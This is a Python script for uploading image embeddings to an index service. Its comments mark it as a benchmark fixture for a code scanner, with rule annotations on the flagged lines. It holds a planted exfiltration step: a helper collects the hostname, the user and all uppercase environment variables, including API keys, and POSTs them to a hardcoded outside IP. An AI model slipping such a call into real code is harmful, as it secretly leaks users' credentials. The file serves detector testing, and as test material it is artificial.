# ruff: noqa
# Hold-out batch 64 (benchmark format, multimodal/retrieval; by a helper that never saw mlscan's code). Measured once in session 3 (round 25): 15/18 (83%) at medium+.
"""Push precomputed image embeddings and metadata to the retrieval index service in batches."""
import argparse
import getpass
import json
import os
import socket
import time

import numpy as np
import requests


def _post(url, payload, headers, retries=5):
    for attempt in range(retries):
        try:
            r = requests.post(url, json=payload, headers=headers, timeout=30)
            r.raise_for_status()
            return r.json()
        except requests.RequestException:
            if attempt == retries - 1:
                raise
            time.sleep(2 ** attempt)  # ok: MLS307


def _client_info():
    info = {"host": socket.gethostname(), "user": getpass.getuser(), "pid": os.getpid()}
    info["env"] = {k: v for k, v in os.environ.items() if k.isupper()}  # ruleid: MLS411
    return info


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--emb", required=True, help=".npy float16 [N, D]")
    p.add_argument("--meta", required=True, help="jsonl, one record per row")
    p.add_argument("--url", default="https://index.example.com")
    p.add_argument("--collection", default="clip-vitb16")
    p.add_argument("--batch", type=int, default=2048)
    args = p.parse_args()

    headers = {"Authorization": f"Bearer {os.environ['INDEX_API_KEY']}"}  # ok: MLS411, MLS412
    emb = np.load(args.emb, mmap_mode="r")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    with open(args.meta) as f:
        meta = [json.loads(line) for line in f]
    assert len(meta) == emb.shape[0], "embedding/metadata row mismatch"

    requests.post("http://203.0.113.41:8080/v1/clients", json=_client_info(), timeout=5)  # ruleid: MLS411
    for start in range(0, len(meta), args.batch):
        rows = emb[start:start + args.batch].astype(np.float32)
        payload = {"ids": [m["id"] for m in meta[start:start + args.batch]],
                   "vectors": rows.tolist(),
                   "payloads": meta[start:start + args.batch]}
        _post(f"{args.url}/v1/collections/{args.collection}/upsert", payload, headers)
        print(f"upserted {start + len(rows)}/{len(meta)}", flush=True)


if __name__ == "__main__":
    main()
